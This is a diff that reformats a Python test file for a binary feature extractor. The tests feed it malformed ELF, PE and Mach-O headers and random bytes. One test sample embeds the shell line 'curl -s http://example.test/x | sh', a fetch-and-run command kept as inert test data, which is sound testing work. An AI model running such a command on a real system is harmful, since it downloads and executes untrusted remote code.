@@ -20,7 +20,11 @@ from agent.features import (
     is_supported_schema,
 )
 
-FIXED = b"#!/bin/sh\ncurl -s http://example.test/x | sh\n" + bytes(range(256)) * 40 + b"MZ\x90\x00" * 100
+FIXED = (
+    b"#!/bin/sh\ncurl -s http://example.test/x | sh\n"
+    + bytes(range(256)) * 40
+    + b"MZ\x90\x00" * 100
+)
 
 
 def test_schema_names_its_length():
@@ -82,11 +86,15 @@ ELF_HEADER = b"\x7fELF\x02\x01\x01" + b"\0" * 9
     "data",
     [
         ELF_HEADER,
-        ELF_HEADER + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 2**63, 0, 64, 56, 9, 64, 65535, 0),
+        ELF_HEADER
+        + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 2**63, 0, 64, 56, 9, 64, 65535, 0),
         b"MZ" + b"\0" * 58 + struct.pack("<I", 0xFFFFFFF0),
         b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\xff" * 30,
         b"\xcf\xfa\xed\xfe" + b"\xff" * 40,
-        b"\xcf\xfa\xed\xfe" + struct.pack("<iiIII", 7, 3, 2, 5, 0) + b"\0" * 4 + struct.pack("<II", 0x19, 4),
+        b"\xcf\xfa\xed\xfe"
+        + struct.pack("<iiIII", 7, 3, 2, 5, 0)
+        + b"\0" * 4
+        + struct.pack("<II", 0x19, 4),
         b"#!",
         b"\xca\xfe\xba\xbe",
     ],
@@ -97,7 +105,9 @@ def test_malformed_headers_never_raise(data):
 
 
 @settings(max_examples=150, deadline=None)
-@given(st.binary(max_size=5000), st.sampled_from([b"", b"\x7fELF", b"MZ", b"\xcf\xfa\xed\xfe", b"#!"]))
+@given(
+    st.binary(max_size=5000), st.sampled_from([b"", b"\x7fELF", b"MZ", b"\xcf\xfa\xed\xfe", b"#!"])
+)
 def test_any_bytes_give_a_finite_vector(data, prefix):
     vec = extract_features(prefix + data)
     assert vec.shape == (VECTOR_LENGTH,) and np.all(np.isfinite(vec))
